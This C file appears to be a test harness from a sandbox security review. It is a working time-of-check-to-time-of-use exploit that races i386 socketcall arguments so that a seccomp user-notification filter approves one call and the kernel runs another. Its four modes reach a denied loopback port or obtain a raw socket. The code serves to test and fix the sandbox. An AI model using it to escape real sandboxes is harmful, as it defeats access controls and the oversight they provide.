/* h_socketcall_race MODE DENIED_PORT ATTEMPTS (from the issue-14 review)
 * i386 socketcall re-read races under the user-notification backend.
 * MODE:
 *  fastopen   socketcall(SENDTO) on a fresh TCP socket, flags MSG_DONTWAIT,
 *             address 127.0.0.1:DENIED; sibling flips flags |= MSG_FASTOPEN.
 *             (policy: deny connect 127.0.0.1:DENIED; TCP listener there)
 *  mmsg-vlen  socketcall(SENDMMSG) on a UDP socket, one mmsghdr naming
 *             127.0.0.1:DENIED, vlen flipped 0 <-> 1 by the sibling.
 *             (policy: deny send 127.0.0.1:DENIED; UDP listener there)
 *  unix-swap  socketcall(CONNECT) {unix fd, abstract unix addr} flipped to
 *             {tcp fd, 127.0.0.1:DENIED} with one 64-bit store.
 *             (policy: deny connect 127.0.0.1:DENIED; TCP listener)
 *  raw        socketcall(SOCKET) {AF_INET, SOCK_DGRAM, IPPROTO_UDP} with
 *             type flipped to SOCK_RAW; on success sends a hand-made UDP
 *             datagram to 127.0.0.1:DENIED through it.
 *             (policy: deny send 127.0.0.1:DENIED, no raw rule; UDP listener)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/udp.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static volatile int stop;
static volatile uint32_t *A;     /* the socketcall argument array */
static uint32_t flipidx; static uint32_t v0, v1;
static volatile uint64_t *A64; static uint64_t w0, w1;
static int use64;

static long int80(long nr, long a, long b) {
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b) : "memory");
    return ret;
}
static void *flipper(void *x) {
    (void)x;
    while (!stop) {
        if (use64) { *A64 = w1; *A64 = w0; }
        else { A[flipidx] = v1; A[flipidx] = v0; }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) { fprintf(stderr, "usage\n"); return 2; }
    const char *mode = argv[1];
    int port = atoi(argv[2]);
    long attempts = atol(argv[3]);
    signal(SIGPIPE, SIG_IGN);
    unsigned char *low = mmap(NULL, 8192, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) return 2;
    A = (uint32_t *)low;
    struct sockaddr_in *den = (struct sockaddr_in *)(low + 256);
    den->sin_family = AF_INET; den->sin_port = htons(port);
    den->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    char *buf = (char *)(low + 512); memcpy(buf, "hello", 5);
    long ok = 0, errs[200] = {0};
    pthread_t t;
    if (!strcmp(mode, "fastopen")) {
        flipidx = 3; v0 = MSG_DONTWAIT; v1 = MSG_DONTWAIT | MSG_FASTOPEN;
        A[1] = (uint32_t)(uintptr_t)buf; A[2] = 5; A[3] = v0;
        A[4] = (uint32_t)(uintptr_t)den; A[5] = sizeof *den;
        pthread_create(&t, NULL, flipper, NULL);
        for (long i = 0; i < attempts; i++) {
            int s = socket(AF_INET, SOCK_STREAM, 0);
            A[0] = s;
            long r = int80(102, 11 /* SYS_SENDTO */, (long)A);
            if (r >= 0 || r == -EINPROGRESS) { ok++; usleep(2000); }
            else if (-r < 200) errs[-r]++;
            close(s);
        }
    } else if (!strcmp(mode, "mmsg-vlen")) {
        int u = socket(AF_INET, SOCK_DGRAM, 0);
        /* 32-bit mmsghdr: msghdr32 {name, namelen, iov, iovlen, control, controllen, flags} + len */
        uint32_t *mm = (uint32_t *)(low + 1024);
        uint32_t *iov = (uint32_t *)(low + 1536);
        iov[0] = (uint32_t)(uintptr_t)buf; iov[1] = 5;
        mm[0] = (uint32_t)(uintptr_t)den; mm[1] = sizeof *den; mm[2] = (uint32_t)(uintptr_t)iov;
        mm[3] = 1; mm[4] = 0; mm[5] = 0; mm[6] = 0; mm[7] = 0;
        A[0] = u; A[1] = (uint32_t)(uintptr_t)mm; A[2] = 0; A[3] = MSG_DONTWAIT;
        flipidx = 2; v0 = 0; v1 = 1;
        pthread_create(&t, NULL, flipper, NULL);
        for (long i = 0; i < attempts; i++) {
            long r = int80(102, 20 /* SYS_SENDMMSG */, (long)A);
            if (r > 0) ok++; else if (r < 0 && -r < 200) errs[-r]++;
        }
    } else if (!strcmp(mode, "unix-swap")) {
        int us = socket(AF_UNIX, SOCK_STREAM, 0);
        int lsn = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        struct sockaddr_un *ua = (struct sockaddr_un *)(low + 1024);
        ua->sun_family = AF_UNIX; memcpy(ua->sun_path, "\0scr", 4);
        bind(lsn, (struct sockaddr *)ua, 16); listen(lsn, 4096);
        /* a[0]=fd, a[1]=addr: one 64-bit word; a[2]=len 16 both ways */
        A64 = (uint64_t *)A; use64 = 1;
        int tcp = socket(AF_INET, SOCK_STREAM, 0);
        A[2] = 16;
        w0 = (uint64_t)(uint32_t)us | ((uint64_t)(uint32_t)(uintptr_t)ua << 32);
        w1 = (uint64_t)(uint32_t)tcp | ((uint64_t)(uint32_t)(uintptr_t)den << 32);
        *A64 = w0;
        pthread_create(&t, NULL, flipper, NULL);
        for (long i = 0; i < attempts; i++) {
            long r = int80(102, 3 /* SYS_CONNECT */, (long)A);
            if (r < 0 && -r < 200) errs[-r]++;
            /* did the TCP socket get connected? */
            struct sockaddr_in p; socklen_t pl = sizeof p;
            if (getpeername(tcp, (struct sockaddr *)&p, &pl) == 0) {
                ok++; close(tcp); tcp = socket(AF_INET, SOCK_STREAM, 0);
                w1 = (uint64_t)(uint32_t)tcp | ((uint64_t)(uint32_t)(uintptr_t)den << 32);
            }
            if (r == 0) { close(us); us = socket(AF_UNIX, SOCK_STREAM, 0);
                w0 = (uint64_t)(uint32_t)us | ((uint64_t)(uint32_t)(uintptr_t)ua << 32);
                int c = accept(lsn, 0, 0); if (c >= 0) close(c); }
        }
    } else if (!strcmp(mode, "raw")) {
        A[0] = AF_INET; A[1] = SOCK_DGRAM; A[2] = IPPROTO_UDP;
        flipidx = 1; v0 = SOCK_DGRAM; v1 = SOCK_RAW;
        pthread_create(&t, NULL, flipper, NULL);
        for (long i = 0; i < attempts; i++) {
            long s = int80(102, 1 /* SYS_SOCKET */, (long)A);
            if (s < 0) { if (-s < 200) errs[-s]++; continue; }
            int type = 0; socklen_t tl = sizeof type;
            getsockopt((int)s, SOL_SOCKET, SO_TYPE, &type, &tl);
            if (type == SOCK_RAW) {
                ok++;
                unsigned char pkt[8 + 5];
                struct udphdr *uh = (struct udphdr *)pkt;
                uh->source = htons(4444); uh->dest = htons(port);
                uh->len = htons(sizeof pkt); uh->check = 0;
                memcpy(pkt + 8, "hello", 5);
                struct sockaddr_in to = { .sin_family = AF_INET };
                to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
                long r = sendto((int)s, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to);
                printf("raw socket made at attempt %ld; sendto=%ld errno=%d\n", i, r, r < 0 ? errno : 0);
                close((int)s);
                break;
            }
            close((int)s);
        }
    } else { fprintf(stderr, "bad mode\n"); return 2; }
    stop = 1;
    pthread_join(t, NULL);
    printf("mode=%s attempts=%ld ok=%ld", mode, attempts, ok);
    for (int e = 0; e < 200; e++) if (errs[e]) printf(" %s=%ld", strerrorname_np(e), errs[e]);
    printf("\n");
    return 0;
}
